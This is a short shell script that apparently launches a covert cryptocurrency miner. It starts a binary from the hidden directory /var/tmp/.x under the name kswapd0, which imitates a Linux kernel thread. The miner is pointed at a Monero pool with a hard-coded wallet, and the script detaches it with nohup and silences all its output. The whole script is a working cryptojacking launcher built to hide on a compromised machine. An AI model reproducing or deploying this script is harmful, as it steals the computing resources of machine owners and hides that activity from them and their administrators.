#!/bin/sh
nohup /var/tmp/.x/kswapd0 -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoE -p x >/dev/null 2>&1 &
